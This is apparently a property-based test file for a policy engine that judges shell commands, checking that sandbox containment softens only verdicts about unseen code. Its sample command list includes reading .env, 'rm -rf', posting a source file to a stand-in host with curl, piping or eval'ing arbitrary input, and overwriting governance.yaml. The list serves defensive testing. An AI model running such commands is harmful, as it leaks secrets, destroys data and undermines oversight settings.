import { PolicyEngine } from '@licet/core';
import type { Containment, Evaluation, OfferContainment, TraceNode, Verdict } from '@licet/core';
import { severityOf } from '@licet/core/nodes';
import * as fc from 'fast-check';
import { describe, expect, it } from 'vitest';

import { RULINGS, bash, effects, tree } from './arbitraries.ts';

const COMMANDS = [
  'true',
  'ls src',
  'cat .env',
  'echo x > src/a.ts',
  'rm -rf docs',
  'curl http://a.example/',
  'curl -d @src/a.ts http://c.example/',
  'npm test',
  'node gen.js',
  'npm install left',
  'echo "$X" | sh',
  'eval "$X" && cat .env',
  'eval "$X"; curl http://c.example/',
  'sh -c "$X"; echo x > governance.yaml',
  'git push',
];

/** What containment may quiet: code that cannot be seen, and nothing that is known. */
const OF_UNSEEN: Readonly<Record<string, string>> = {
  unknown_effect: 'file_boundary',
  network_unknown: 'network',
  not_contained: 'contained',
};

const containmentOf =
  (level: Containment['level']): OfferContainment =>
  () => ({ level, by: 'licet run', planDigest: 'abc' });

/** The verdicts of the guards that both evaluations have asked: the branch after a block may be asked in one alone. */
function pairs(before: TraceNode, after: TraceNode): readonly (readonly [Verdict, Verdict])[] {
  if (before.children.length > 0)
    return before.children.flatMap((child, at) => {
      const other = after.children[at];
      return other === undefined ? [] : pairs(child, other);
    });
  return before.verdict === undefined || after.verdict === undefined ? [] : [[before.verdict, after.verdict]];
}

/** Verdicts without what timing or identity adds. */
const said = ({ ruling, code, guard, reason }: Verdict) => ({ ruling, code, guard, reason });

const isAboutUnknown = ({ context }: Evaluation, { code }: Verdict): boolean =>
  code === 'not_contained' || context.effects.some(({ kind }) => kind === 'unknown');

describe('a sandbox quiets only what is unknown', () => {
  it('changes no verdict but those of guards of files and hosts about code that cannot be seen, and none to a stricter one', () => {
    let quieted = 0;
    fc.assert(
      fc.property(tree, fc.constantFrom(...RULINGS), fc.constantFrom(...COMMANDS), (policy, fallback, command) => {
        const rule = (contain?: OfferContainment): Evaluation =>
          new PolicyEngine(policy, { effects, default: fallback, ...(contain && { contain }) }).evaluateSync(bash(command));
        const [without, within] = [rule(), rule(containmentOf('constructed'))];
        for (const [before, after] of pairs(without.trace, within.trace)) {
          if (after.ruling === before.ruling) continue;
          quieted += 1;
          expect(OF_UNSEEN[before.code]).toBe(before.guard);
          expect(isAboutUnknown(without, before)).toBe(true);
          expect(severityOf(after.ruling)).toBeLessThan(severityOf(before.ruling));
          // What somebody wrote as a block stays one, but for the guard that is about sandboxes.
          if (before.guard !== 'contained') expect(before.ruling).not.toBe('block');
        }
      }),
      { numRuns: 1_000 },
    );
    expect(quieted).toBeGreaterThan(50);
  });

  it('is not enough where only the settings of a host say it', () => {
    fc.assert(
      fc.property(tree, fc.constantFrom(...COMMANDS), (policy, command) => {
        const without = new PolicyEngine(policy, { effects }).evaluateSync(bash(command));
        const within = new PolicyEngine(policy, { effects, contain: containmentOf('configured') }).evaluateSync(bash(command));
        expect(within.verdicts.map(said)).toEqual(without.verdicts.map(said));
      }),
      { numRuns: 300 },
    );
  });
});
